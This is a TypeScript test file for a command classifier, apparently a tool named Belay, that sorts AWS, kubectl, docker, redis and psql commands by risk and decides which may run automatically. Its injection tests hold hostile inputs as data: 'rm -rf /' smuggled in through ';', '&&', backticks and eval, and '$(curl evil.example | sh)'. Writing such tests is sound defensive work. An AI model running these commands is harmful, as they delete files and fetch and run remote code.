import { describe, expect, it } from 'vitest'
import { inWords, told, verdict, verdicts } from './reading.ts'

describe('a command of AWS', () => {
  it('that reads runs, with what is done to its answer', async () => {
    const found = await verdict(
      "aws ecs describe-services --cluster shop --services api web --query 'services[0].events[:5]' --output table",
    )
    expect(found).toMatchObject({
      class: 'runs',
      actions: [
        {
          via: 'aws',
          operation: 'ecs:DescribeServices',
          risk: 'read',
          input: { cluster: ['shop'], services: { list: [['api'], ['web']] } },
          filters: [{ by: 'query', expression: 'services[0].events[:5]' }],
        },
      ],
    })
  })

  it('by hand for what stands within it has the risk of both', async () => {
    expect(inWords(await verdict('aws ecs register-task-definition --family f --cpu $(cat cpu)'))).toContain(
      'by hand, change: within',
    )
    expect(inWords(await verdict('aws ecs list-tasks --cluster $(cat cluster)'))).toContain(
      'by hand, read: within',
    )
    expect(inWords(await verdict('aws ecs list-tasks --cluster $(rm cluster)'))).toContain(
      'by hand, destructive: within',
    )
  })

  it('within which stands what answers nothing is by hand', async () => {
    expect(inWords(await verdict('aws ecs list-tasks --cluster $(set -e)'))).toContain(
      'what stands in $(set -e) answers nothing',
    )
  })

  it('asks for its blanks, with what can be chosen from', async () => {
    const found = await verdict('aws ecs describe-tasks --cluster shop --tasks <task-arn>')
    expect(inWords(found)).toBe('asks aws ecs:DescribeTasks, read: task arn')
    expect(found).toMatchObject({ inputs: [{ name: 'task arn', kind: 'text', choices: 'tasks' }] })
  })

  it.each([
    [
      'aws ecs update-service --cluster c --service s --task-definition shop:PREVIOUS_REVISION',
      'previous revision',
    ],
    ['aws ec2 describe-security-groups --group-ids sg-XXXXXXXX', 'sg'],
    ['aws acm describe-certificate --certificate-arn CERTIFICATE-ARN', 'certificate arn'],
    [
      'aws ce get-cost-and-usage --time-period Start=2024-01-01,End=2024-01-31 --granularity DAILY --metrics BlendedCost',
      'date, date',
    ],
    ['aws logs filter-log-events --log-group-name g --filter-pattern \'"id":"<REQUEST_ID>"\'', 'request id'],
    [
      "aws cloudwatch get-metric-statistics --namespace n --metric-name m --start-time $(date -u -d '1 hour ago' +%FT%T) --end-time $(date -u +%FT%T) --period 300",
      'time %FT%T',
    ],
    [
      'aws ce get-cost-and-usage --time-period Start=a,End=b --granularity DAILY --metrics m --filter file://ecs.json',
      'filter',
    ],
    [
      'aws rds create-db-snapshot --db-instance-identifier shop --db-snapshot-identifier shop-YYYYMMDD',
      'date',
    ],
  ])('asks where %s has an example or a blank', async (command, names) => {
    const found = await verdict(command)
    expect(found.class).toBe('asks')
    expect(inWords(found).split(': ').at(-1)).toBe(names)
  })

  it('that sets a count, a revision or new tasks is an operation of Belay', async () => {
    const service = 'aws ecs update-service --cluster shop --service api'
    const [scale, back, anew] = await verdicts(
      `${service} --desired-count 4\n${service} --task-definition shop-api:41\n${service} --force-new-deployment`,
    )
    const on = { ecs: { map: { cluster: ['shop'], service: ['api'] } } }
    expect(scale).toMatchObject({
      actions: [{ via: 'belay', operation: 'scale', input: { count: { number: 4 } }, on }],
    })
    expect(back).toMatchObject({
      actions: [{ operation: 'rollback', input: { revision: { number: 41 } }, on }],
    })
    expect(anew).toMatchObject({ actions: [{ operation: 'restart', input: {}, on, risk: 'change' }] })
  })

  it('that brings containers or a package of its own is no deploy; what is in a file may be one', async () => {
    const register = 'aws ecs register-task-definition'
    const update = 'aws lambda update-function-code --function-name f'
    const found = await verdicts(`${register} --cli-input-json file://a.json
${register} --family shop --container-definitions '[{"name":"api","image":"shop:1"}]'
${register} --family shop --execution-role-arn r --container-definitions file://a.json
${register} --cli-input-json '{"family":"shop"}'
${update} --zip-file fileb://a.zip
${update} --s3-bucket packages --s3-key a.zip
${update} --image-uri shop:1`)
    const own =
      'by hand, change: it writes out a task of its own, and a deploy registers what runs with another image'
    const package$ =
      'by hand, change: it names a package of its own: a deploy takes that of a version, from where the system file says'
    expect(found.map(inWords)).toEqual([
      'asks belay deploy, change: version',
      ...[own, own, own],
      'asks belay deploy, change: version',
      ...[package$, package$],
    ])
    expect([told(found[0]!)[0], told(found[4]!)[0]]).toEqual([
      'aws ecs register-task-definition: of the file Belay takes nothing: it registers what runs, with the image of that version',
      'aws lambda update-function-code: the file is not sent: a deploy takes that of a version, from where the system file says',
    ])
  })

  it('that shuts out or deletes a user of a pool is an operation of Belay, and no client of a pool is shown with its secret', async () => {
    const user = '--user-pool-id us-east-1_Ab12Cd34E --username pilot-71'
    const found = await verdicts(
      `aws cognito-idp admin-disable-user ${user}
aws cognito-idp admin-delete-user ${user}
aws cognito-idp admin-reset-user-password ${user}
aws cognito-idp describe-user-pool-client --user-pool-id us-east-1_Ab12Cd34E --client-id 1a2b`,
    )
    expect(found.slice(0, 3).map(inWords)).toEqual([
      'runs belay users disable, change',
      'runs belay users remove, destructive',
      'by hand, change: Belay has no operation for cognito-idp:AdminResetUserPassword',
    ])
    expect(found[0]).toMatchObject({
      actions: [{ input: { users: ['pilot-71'] }, on: { userPool: ['us-east-1_Ab12Cd34E'] } }],
    })
    expect(found[3]).toMatchObject({ actions: [{ sets: [{ name: '', secret: true }] }] })
  })

  it('that changes what Belay has no operation for is by hand, with its risk', async () => {
    expect(
      inWords(
        await verdict(
          'aws ecs update-service --cluster c --service s --desired-count 2 --no-enable-execute-command',
        ),
      ),
    ).toBe('by hand, change: Belay has no operation for ecs:UpdateService with --enable-execute-command')
    expect(inWords(await verdict('aws ecs delete-cluster --cluster shop'))).toBe(
      'by hand, destructive: Belay has no operation for ecs:DeleteCluster',
    )
    expect(inWords(await verdict('aws sqs list-queues'))).toBe(
      'by hand, read: Belay does not know the service sqs of AWS',
    )
  })

  it.each([
    ['aws ecs describe-service --cluster c', 'aws ecs has no describe-service: describe-services is meant?'],
    ['aws ecs list-tasks --clusters c', 'aws ecs list-tasks: there is no --clusters: --cluster is meant?'],
    [
      'aws ecs update-service --service s --desired-count many',
      'aws ecs update-service: --desired-count is a number, and "many" is none',
    ],
    ['aws ecs list-tasks --cluster', 'aws ecs list-tasks: --cluster is given nothing'],
    ['aws ecs list-tasks mine', 'aws ecs list-tasks: it takes no mine without a name'],
    [
      "aws rds describe-db-instances --query 'DBInstances[0'",
      'aws rds describe-db-instances: --query is no expression of JMESPath',
    ],
    [
      'aws ce get-cost-and-usage --time-period Begin=a,End=b --granularity DAILY --metrics m',
      'aws ce get-cost-and-usage: --time-period has no Begin',
    ],
    [
      'aws ce get-cost-and-usage --time-period Start=a --granularity DAILY --metrics m',
      'aws ce get-cost-and-usage: --time-period needs End, as in Start=…,End=…',
    ],
    [
      'aws ecs wait service-stable --cluster c',
      'aws ecs wait has no service-stable: services-stable is meant?',
    ],
    ['aws logs tail /ecs/shop --since half-an-hour', 'aws logs tail: --since is a time such as 30m'],
    [
      'aws ecs list-tasks --max-items abc',
      'aws ecs list-tasks: --max-items is a whole number, and "abc" is none',
    ],
    [
      'aws ecs list-tasks --region eu-wst-1',
      "aws ecs list-tasks: AWS's SDK knows no region eu-wst-1: eu-west-1 is meant?",
    ],
    ['aws ecs list-tasks --region us-east-3', "AWS's SDK knows no region us-east-3"],
    ['AWS_REGION=ireland aws logs tail /ecs/shop', '"ireland" is no region, such as eu-west-1'],
    [
      'aws ecs update-service --service s --desired-count -1',
      '--desired-count is a whole number of 0 or more, and "-1" is none',
    ],
    [
      'aws ecs update-service --service s --desired-count 1.5',
      '--desired-count is a whole number of 0 or more, and "1.5" is none',
    ],
    ['aws ecs list-tasks --cluster “shop”', '“ is no sign of a shell: " is meant?'],
    ['aws ecs list-tasks —cluster shop', '— is no sign of a shell: -- is meant?'],
    ['docker-compose lgos backend', 'docker has no lgos: logs is meant?'],
    ['docker rstart web', 'docker has no rstart: restart is meant?'],
    ['kubectl get podz', 'kubectl get: there is no podz: pods is meant?'],
    ['kubectl describe ingres web', 'kubectl describe: there is no ingres: ingress is meant?'],
    ['redis-cli INFOO', 'redis-cli: there is no INFOO: INFO is meant?'],
    ['redis-cli -h cache FLUSHAL', 'redis-cli: there is no FLUSHAL: FLUSHALL is meant?'],
    ['redis-cli GET', 'redis-cli: GET takes one word behind it, and there are 0'],
    ['redis-cli LRANGE jobs', 'redis-cli: LRANGE takes 3 words behind it, and there is one'],
    ['redis-cli MGET', 'redis-cli: MGET takes at least one word behind it, and there are 0'],
    ['psql -c "select * fro users"', 'PostgreSQL knows no fro there: FROM is meant?'],
    ['psql -c "SELCT 1"', 'PostgreSQL knows no SELCT: SELECT is meant?'],
  ])('%s is told what would be right', async (command, words) => {
    const found = await verdict(command)
    expect(found.class).toBe('byHand')
    expect(told(found).join('\n')).toContain(words)
  })

  it('that names no region has the risk of what it would do', async () => {
    expect(await verdict('aws s3 ls --region us-east-3')).toMatchObject({ class: 'byHand', risk: 'read' })
    const change = await verdict(
      'aws ecs update-service --service s --force-new-deployment --region us-east-3',
    )
    expect(change).toMatchObject({ class: 'byHand', risk: 'change' })
  })

  it('that lacks an argument asks for it', async () => {
    const found = await verdict('aws logs get-log-events --log-group-name /ecs/shop')
    expect(found).toMatchObject({
      class: 'asks',
      inputs: [{ name: 'log stream name', choices: 'log streams' }],
    })
  })

  it('that waits, follows logs or lists a bucket runs; where somebody sits at it, it is by hand', async () => {
    const found = await verdicts(`aws ecs wait services-stable --cluster c --services s
aws logs tail /ecs/shop --since 30m --follow
aws s3 sync s3://logs/alb/ /tmp/logs
aws ssm start-session --target i-1
aws ecs execute-command --cluster c --task t --container app --interactive --command "/bin/sh"
aws ecs execute-command --cluster c --task t --container app --interactive --command "php bin/console about"`)
    expect(found.map(inWords)).toEqual([
      'runs aws ecs:wait services-stable, read',
      'runs aws logs:tail, read',
      'runs aws s3:list, read',
      'by hand, change: it opens a session that somebody sits at',
      'by hand, change: it opens a session that somebody sits at',
      'runs belay exec, change',
    ])
  })
})

describe('what is set', () => {
  it('is kept by name, and a secret is never told', async () => {
    const [made, used, read] = await verdicts(`PASS=$(openssl rand -base64 32)
echo $PASS
export TOKEN=$(aws secretsmanager get-secret-value --secret-id s --query SecretString --output text)`)
    expect(made).toMatchObject({ actions: [{ via: 'value', sets: [{ name: 'PASS', secret: true }] }] })
    expect(used).toMatchObject({ actions: [{ input: { text: [{ of: 'variable', name: 'PASS' }] } }] })
    expect(read).toMatchObject({
      class: 'runs',
      actions: [
        { operation: 'secretsmanager:GetSecretValue', sets: [{ secret: true }] },
        { sets: [{ name: 'TOKEN', secret: true }] },
      ],
    })
  })

  it('by what changes something is by hand', async () => {
    expect(inWords(await verdict('X=$(rm -rf /)'))).toBe(
      'by hand, destructive: within $(rm -rf /): it deletes files',
    )
    expect(inWords(await verdict('X=$(kubectl rollout restart deployment/shop)'))).toBe(
      'by hand, change: what stands in $(kubectl rollout restart deployment/sh… changes something',
    )
  })
})

describe('a pipe', () => {
  it('filters what is answered', async () => {
    const found = await verdict(
      String.raw`kubectl get pods | grep -v "a\|b" | sort -rn | uniq -c | head -20 | wc -l`,
    )
    expect(found).toMatchObject({
      class: 'runs',
      actions: [
        {
          filters: [
            { by: 'grep', pattern: ['a|b'], invert: true },
            { by: 'sort', numeric: true, reverse: true },
            { by: 'uniq', count: true },
            { by: 'head', lines: 20 },
            { by: 'wc' },
          ],
        },
      ],
    })
  })

  it('that gives each line to a read does so, and to a change only where Belay has one operation for the whole', async () => {
    const stop = await verdict(
      "aws ecs list-tasks --cluster c --service-name s | jq -r '.taskArns[]' | xargs -I {} aws ecs stop-task --cluster c --task {}",
    )
    expect(inWords(stop)).toBe('runs belay stop-tasks, destructive')
    expect(
      inWords(
        await verdict(
          "aws ecs list-tasks --cluster c --service-name s | jq -r '.taskArns[]' | head -1 | xargs aws ecs stop-task --cluster c --task",
        ),
      ),
    ).toBe('by hand, change: Belay has no operation for ecs:StopTask')
    expect(
      await verdict('redis-cli -h <endpoint> KEYS "plan:*" | xargs redis-cli -h <endpoint> DEL'),
    ).toMatchObject({
      class: 'runs',
      actions: [{ via: 'belay', operation: 'cache clear', risk: 'change', input: { pattern: ['plan:*'] } }],
    })
    expect(await verdict('redis-cli KEYS "plan:*" | grep a | xargs redis-cli DEL')).toMatchObject({
      class: 'runs',
      actions: [
        { via: 'redis', filters: [{ by: 'grep' }, { by: 'each', actions: [{ operation: 'cache clear' }] }] },
      ],
    })
    const each = await verdict('kubectl get pods | xargs -n 1 kubectl describe pod')
    expect(each).toMatchObject({
      actions: [
        { filters: [{ by: 'each', per: 'word', actions: [{ operation: 'describe', risk: 'read' }] }] },
      ],
    })
  })

  it('through anything else is by hand: Belay is no shell', async () => {
    expect(inWords(await verdict("kubectl get pods | awk '{print $3}'"))).toContain('not by awk')
    expect(inWords(await verdict('kubectl get pods > pods.txt'))).toContain('file of your machine')
    expect(inWords(await verdict('if true; then docker ps; fi'))).toContain('it decides by itself')
    expect(inWords(await verdict('curl https://a.example || docker restart shop'))).toContain(
      'or, if that fails',
    )
  })
})

describe('a loop', () => {
  it('is the same for each of its words', async () => {
    const found = await verdict(
      'for svc in api web; do\n  echo "$svc"\n  curl -s https://$svc.example.com/health || echo "away"\ndone',
    )
    expect(found).toMatchObject({
      class: 'runs',
      actions: [
        { via: 'value' },
        { input: { url: ['https://api.example.com/health'] } },
        { via: 'value' },
        { input: { url: ['https://web.example.com/health'] } },
      ],
    })
  })

  it('over files, or over too much, is by hand', async () => {
    expect(inWords(await verdict('for f in *.log; do docker ps; done'))).toContain('files of your machine')
    const words = Array.from({ length: 60 }, (_, i) => `s${i}`).join(' ')
    expect(inWords(await verdict(`for s in ${words}; do docker ps; done`))).toContain('more than 50 times')
  })
})

describe('other commands', () => {
  it.each([
    ['kubectl get pods', 'runs kubernetes get, read'],
    ['QUEUE={queue}', 'asks value set, read: queue'],
    ["kubectl get pods -o json | jq -r '.items[].status.phase'", 'runs kubernetes get, read'],
    ['kubectl get deployment/shop --output=json', 'runs kubernetes get, read'],
    [
      'kubectl get events --sort-by=.lastTimestamp --field-selector type=Warning',
      'runs kubernetes get, read',
    ],
    ['kubectl get svc,ingress -n shop -o wide', 'runs kubernetes get, read'],
    ['kubectl get all', 'runs kubernetes get, read'],
    ["kubectl get nodes -o jsonpath='{.items[*].metadata.name}'", 'runs kubernetes get, read'],
    ['kubectl get cm shop-config -o yaml', 'runs kubernetes get, read'],
    ['kubectl describe node <node>', 'asks kubernetes get, read: node'],
    ['kubectl top nodes', 'runs kubernetes top, read'],
    ['kubectl top pods -l app=shop --sort-by=memory', 'runs kubernetes top, read'],
    ['kubectl set env deployment/shop A=b', 'by hand, change: Belay has no operation for it'],
    [
      'kubectl wait --for=condition=ready pod -l app=shop',
      'by hand, read: it waits, and Belay shows once how it is',
    ],
    ['kubectl exec -it db-0 -- psql -U shop', 'by hand, change: it opens a session that somebody sits at'],
    ['kubectl exec db-0 -- psql -U shop -tAc "SELECT 1"', 'runs belay exec, read'],
    [`docker exec db psql -U shop -c "UPDATE orders SET status = 'void'"`, 'runs belay exec, change'],
    ['docker compose exec db psql -c "VACUUM ANALYZE orders"', 'runs belay exec, change'],
    ['docker compose exec cache redis-cli SET health 1', 'runs belay exec, change'],
    ['docker compose exec cache redis-cli FLUSHALL', 'runs belay exec, destructive'],
    [
      `kubectl exec shop-1 -- curl -X POST http://localhost:3500/orders -d '{"test": true}'`,
      'runs belay exec, change',
    ],
    ['docker exec -it cache redis-cli -h cache', 'by hand, change: it opens a session that somebody sits at'],
    ['docker exec cache redis-cli -h cache DBSIZE', 'runs belay exec, read'],
    ['docker compose exec db mysql -uroot shop', 'by hand, change: it opens a session that somebody sits at'],
    ["sed -n '1,4p' shop.conf", 'by hand, read: it looks at files of your machine'],
    ["sed -i 's/a/b/' shop.conf", 'by hand, change: it changes files of your machine'],
    ['find /tmp -name "*.log" -delete', 'by hand, destructive: it deletes files'],
    ['find /tmp -exec gzip {} +', 'by hand, change: it changes files of your machine'],
    ['open https://shop.example.com', 'by hand, read: it opens a page in your browser'],
    ['kubectl rollout restart deployment/shop', 'runs belay restart, change'],
    ['kubectl scale deployment/shop --replicas=5', 'runs belay scale, change'],
    ['kubectl set image deployment/shop app=shop:v2.0.0', 'asks belay deploy, change: version'],
    ['kubectl exec -it [pod-name] -- [command]', 'asks belay exec, change: pod name, command'],
    [
      'kubectl delete pod shop-1',
      'by hand, destructive: Belay has no operation that deletes things of a cluster',
    ],
    ['docker-compose restart backend', 'runs belay restart, change'],
    ['docker exec shop top', 'runs docker top, read'],
    ['docker exec -it shop bash', 'by hand, change: it opens a session that somebody sits at'],
    ["watch -n 5 'docker stats --no-stream'", 'runs docker stats, read'],
    ['redis-cli -h <endpoint> info memory', 'runs redis INFO, read'],
    ['redis-cli FLUSHALL', 'runs belay cache flush, destructive'],
    ['aws cloudformation delete-stack --stack-name shop', 'runs belay stack delete, destructive'],
    [
      'aws cloudformation create-change-set --stack-name shop --change-set-name update-$(date +%Y%m%d) --template-body file://stack.yaml',
      'runs belay stack changes, mild',
    ],
    ['redis-cli', 'by hand, change: it opens a session that somebody sits at'],
    ['redis-cli MGET $KEYS', 'asks redis MGET, read: keys'],
    ['redis-cli PING', 'runs redis PING, read'],
    ['docker system df', 'by hand, read: it looks at a machine'],
    ['docker images', 'by hand, read: it looks at a machine'],
    ['docker volume ls', 'by hand, read: it looks at a machine'],
    ['docker system prune -f', 'by hand, destructive: it cleans up a machine'],
    ['docker volume rm data', 'by hand, destructive: Belay has no operation for it'],
    ['docker stop web', 'by hand, change: Belay has no operation for it'],
    ['psql -c "(SELECT 1) UNION (SELECT 2)"', 'runs postgres sql, read'],
    ['psql -c "(DELETE FROM a)"', 'by hand, destructive: Belay has no operation for DELETE FROM'],
    ['psql -c "SELECT form FROM a"', 'runs postgres sql, read'],
    ['psql -c "/* of /* all */ that; */ SELECT 1"', 'runs postgres sql, read'],
    [
      'psql -c "/* SELECT /* 1 */ */ DELETE FROM a"',
      'by hand, destructive: Belay has no operation for DELETE FROM',
    ],
    [
      `psql -c "SELECT '/*' || pg_terminate_backend(7) || '*/'"`,
      "by hand, change: Belay has no operation for SELECT '/*'",
    ],
    ['psql -c "SELECT 1"', 'runs postgres sql, read'],
    [
      'psql -c "WITH x AS (DELETE FROM a RETURNING *) SELECT * FROM x"',
      'by hand, destructive: Belay has no operation for WITH x',
    ],
    [
      'psql -c "EXPLAIN ANALYZE DELETE FROM a"',
      'by hand, destructive: Belay has no operation for EXPLAIN ANALYZE',
    ],
    ['psql -c "VACUUM ANALYZE bookings, audit_log;"', 'runs belay db vacuum, change'],
    ['psql -c "VACUUM ANALYZE <table>"', 'asks belay db vacuum, change: table'],
    ['psql -c "REINDEX TABLE public.<table>;"', 'asks belay db reindex, change: table'],
    [
      `psql -c "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle' AND query_start < now() - interval '<count> minutes'"`,
      'asks belay db end-idle, change: count',
    ],
    ['redis-cli DEL "user-<id>"', 'asks belay cache clear, change: id'],
    ["redis-cli unlink 'session:<session-id>'", 'asks belay cache clear, change: session id'],
    ['psql -c "VACUUM FULL bookings"', 'by hand, change: Belay has no operation for VACUUM FULL'],
    ['psql -c "REINDEX TABLE bookings"', 'runs belay db reindex, change'],
    [
      `psql -c "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle' AND query_start < now() - interval '10 minutes'"`,
      'runs belay db end-idle, change',
    ],
    [
      `psql -c "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"`,
      'by hand, change: Belay has no operation for SELECT pg_terminate_backend',
    ],
    ['psql -h localhost -d shop', 'by hand, change: it opens a session that somebody sits at'],
    ['mongosh mongodb://db/shop --eval "db.trips.getIndexes()"', 'runs mongo expression, read'],
    ['mongosh --eval "db.trips.drop()"', 'by hand, destructive: Belay has no operation for it'],
    ['npm run cache:stats', 'runs belay exec, read'],
    ['npm run report:send', 'runs belay exec, change'],
    ['npm audit fix', 'runs belay exec, change'],
    ['./scripts/enable-health-check.sh', 'runs belay exec, change'],
    ['./scripts/restock.sh --only test-1', 'runs belay exec, change'],
    ['php bin/console user:create test@example.com', 'runs belay exec, change'],
    ['npm run backup:restore backup-2024-01-01T10-00-00', 'asks belay exec, destructive: time'],
    ['./scripts/deploy.sh --tag <sha>', 'asks belay exec, change: sha'],
    ['./infrastructure/deploy.sh --dry-run', 'runs belay workflow run, read'],
    [
      'node --inspect server.js',
      'by hand, change: it starts a debugger or a profiler, which somebody sits at',
    ],
    ['git log --oneline -5', 'runs github log, read'],
    ['git tag v1.2.3', 'asks belay deploy, change: version'],
    ['git push origin v1.2.3', 'asks belay deploy, change: version'],
    ['git push origin main', 'by hand, change: it sends what is in a working copy on your machine'],
    ['curl -X POST https://shop.example.com/warm', 'runs belay request, change'],
    ['0 2 * * * cd /app && npm run backup', 'by hand, change: Belay is no shell: it is a line of a crontab'],
    ['vi /etc/hosts', 'by hand, change: it opens an editor'],
    ['kubctl get pods', 'by hand, change: Belay knows no command kubctl'],
  ])('%s: %s', async (command, words) => {
    expect(inWords((await verdicts(command))[0]!)).toBe(words)
  })

  it('run where the system file names them as tasks, word for word, whatever they are', async () => {
    const tasks = [
      ['grep', 'rate limit', 'logs/app.log'],
      ['shopctl', 'sync', '{store}'],
    ]
    const judged = async (code: string) => inWords((await verdicts(code, undefined, tasks))[0]!)
    expect(await judged('grep "rate limit" logs/app.log')).toBe('runs belay exec, read')
    expect(await judged('shopctl sync <store>')).toBe('asks belay exec, change: store')
    expect(await judged('grep "rate limits" logs/app.log')).toContain('it looks at files of your machine')
    expect(await judged('grep rate limit logs/app.log')).toContain('it looks at files of your machine')
    expect(await judged('shopctl')).toContain('Belay knows no command shopctl')
  })

  it('ask only addresses that the system has', async () => {
    const hosts = ['shop.example.com']
    expect(inWords(await verdict('curl https://green.shop.example.com/health', hosts))).toBe(
      'runs http GET, read',
    )
    expect(inWords(await verdict('curl https://evil.example.org/health', hosts))).toBe(
      "by hand, read: the system's file does not name the address evil.example.org",
    )
  })

  it('that use an old name of a column or a function are told the new one', async () => {
    const found = await verdicts(`psql -c "SELECT mean_time FROM pg_stat_statements"
psql -c "SELECT checkpoints_timed FROM pg_stat_bgwriter"
psql -c "SELECT pg_xlog_location_diff(sent_location, replay_location) FROM pg_stat_replication"
psql -c "SELECT mean_time, checkpoints_timed FROM measurements"`)
    expect(found.map(({ class: is }) => is)).toEqual(['runs', 'runs', 'runs', 'runs'])
    expect(found.map(told)).toEqual([
      ['PostgreSQL calls mean_time mean_exec_time since version 13'],
      ['PostgreSQL calls checkpoints_timed pg_stat_checkpointer.num_timed since version 17'],
      [
        'PostgreSQL calls sent_location sent_lsn since version 10',
        'PostgreSQL calls replay_location replay_lsn since version 10',
        'PostgreSQL calls pg_xlog_location_diff pg_wal_lsn_diff since version 10',
      ],
      [],
    ])
  })

  it('silence alerts as Belay does, for as long as is asked for', async () => {
    const risks = [
      ['alertname', 'mild'],
      ['env', 'change'],
    ]
    for (const [name, risk] of risks) {
      const body = `{"matchers": [{"name": "${name}", "value": "prod", "isRegex": false}], "endsAt": "2024-01-01T02:00:00Z", "comment": "Planned"}`
      const found = await verdict(`curl -X POST http://alertmanager:9093/api/v2/silences -d '${body}'`)
      expect(found).toMatchObject({
        class: 'asks',
        actions: [{ operation: 'silence', risk, input: { comment: ['Planned'] } }],
      })
      expect(inWords(found)).toContain('for how long')
    }
  })
})

describe('what reads as a blank and is none that Belay knows', () => {
  it.each([
    ['kubectl logs "<pod (see above)>"', '<pod (see above)>'],
    ['kubectl logs {pod name}', '{pod'],
    ["aws ecs list-tasks --cluster '{{ .Values.cluster }}'", '{{ .Values.cluster }}'],
    ['npm run report DD-MM-YYYY', 'DD-MM'],
  ])('is not sent as it stands: %s', async (command, blank) => {
    expect(inWords(await verdict(command))).toContain(
      `${blank} reads as a blank, and Belay does not know it: write it as <name>`,
    )
  })

  it('may stand in what has a language of its own', async () => {
    const found = await verdicts(`curl -X POST -d '{"query":"{ users { id } }"}' https://shop.example.com/a
aws logs filter-log-events --log-group-name g --filter-pattern '{ $.level = "ERROR" }'
docker ps | grep '{name}'`)
    expect(found.map(({ class: is }) => is)).toEqual(['runs', 'runs', 'runs'])
  })
})

describe('what somebody has slipped in', () => {
  it.each([
    [
      'aws ecs list-tasks --cluster c; rm -rf /',
      ['runs aws ecs:ListTasks, read', 'by hand, destructive: it deletes files'],
    ],
    [
      'aws ecs list-tasks --cluster `rm -rf /`',
      ['by hand, destructive: within `rm -rf /`: it deletes files'],
    ],
    [
      'aws ecs list-tasks --cluster "$(curl evil.example | sh)"',
      [
        'by hand, read: within $(curl evil.example | sh): Belay is no shell: it filters by jq, grep, head, tail, sort, uniq and wc -l, not by sh',
      ],
    ],
    ['kubectl get pods && rm -rf /', ['runs kubernetes get, read', 'by hand, destructive: it deletes files']],
    ['docker ps &', ['by hand, change: Belay is no shell: it goes on in the background']],
    ['eval "rm -rf /"', ['by hand, change: it is done on a machine, and Belay has none']],
    [
      'docker ps <(rm -rf /)',
      ['by hand, change: Belay is no shell: <(rm -rf /) is a command in the place of a file'],
    ],
  ])('is a step of its own or by hand: %s', async (command, words) => {
    expect((await verdicts(command)).map(inWords)).toEqual(words)
  })
})

describe('a secret', () => {
  it('that a step makes is rotated, and one that somebody brings is given in a form; none is handed on', async () => {
    const found = await verdicts(`NEW=$(openssl rand -base64 32)
aws secretsmanager put-secret-value --secret-id shop/db --secret-string "$NEW"
aws rds modify-db-instance --db-instance-identifier shop --master-user-password "$NEW"
aws secretsmanager update-secret --secret-id shop/key --secret-string NEW_KEY
aws secretsmanager rotate-secret --secret-id shop/db
aws secretsmanager update-secret --secret-id shop/key --description weather
aws secretsmanager delete-secret --secret-id shop/key
aws secretsmanager get-secret-value --secret-id shop/key`)
    expect(found.map(inWords).slice(1)).toEqual([
      'runs belay secret rotate, change',
      'runs belay secret rotate, change',
      'runs belay secret put, change',
      'runs belay secret rotate, change',
      'by hand, change: Belay has no operation for secretsmanager:UpdateSecret as it stands here',
      'by hand, destructive: Belay has no operation for secretsmanager:DeleteSecret',
      'runs aws secretsmanager:GetSecretValue, read',
    ])
    const actions = found.flatMap(one => (one.class === 'byHand' ? [] : one.actions)).slice(1, 5)
    expect(actions.map(({ input }) => input)).toEqual([{}, {}, {}, {}])
  })
})

describe('a database', () => {
  it('is saved, restored, restarted and made larger by operations of Belay', async () => {
    const found =
      await verdicts(`aws rds create-db-snapshot --db-instance-identifier shop --db-snapshot-identifier manual-$(date +%Y%m%d)
aws rds restore-db-instance-from-db-snapshot --db-instance-identifier shop-2 --db-snapshot-identifier SNAPSHOT-ID
aws rds restore-db-instance-to-point-in-time --source-db-instance-identifier shop --target-db-instance-identifier shop-2 --restore-time 2024-01-01T12:00:00Z
aws rds reboot-db-instance --db-instance-identifier shop
aws rds modify-db-instance --db-instance-identifier shop --db-instance-class db.t3.small --apply-immediately
aws rds modify-db-instance --db-instance-identifier shop --allocated-storage 100
aws rds modify-db-parameter-group --db-parameter-group-name shop --parameters ParameterName=log_statement,ParameterValue=all
aws rds modify-db-instance --db-instance-identifier shop --publicly-accessible
aws rds modify-db-instance --db-instance-identifier shop --backup-retention-period 7`)
    expect(found.map(inWords)).toEqual([
      'asks belay db snapshot, change: time %Y%m%d',
      'asks belay db restore, change: snapshot id',
      'asks belay db restore, change: time',
      'runs belay db reboot, change',
      'runs belay db class, change',
      'runs belay db storage, change',
      'runs belay db parameter, change',
      'asks belay db open, destructive: your address, why',
      'by hand, change: Belay has no operation for rds:ModifyDBInstance as it stands here',
    ])
    expect(found[2]).toMatchObject({ actions: [{ input: { as: ['shop-2'] }, on: { rds: ['shop'] } }] })
    expect(found[6]).toMatchObject({ actions: [{ input: { parameter: ['log_statement'], value: ['all'] } }] })
  })
})
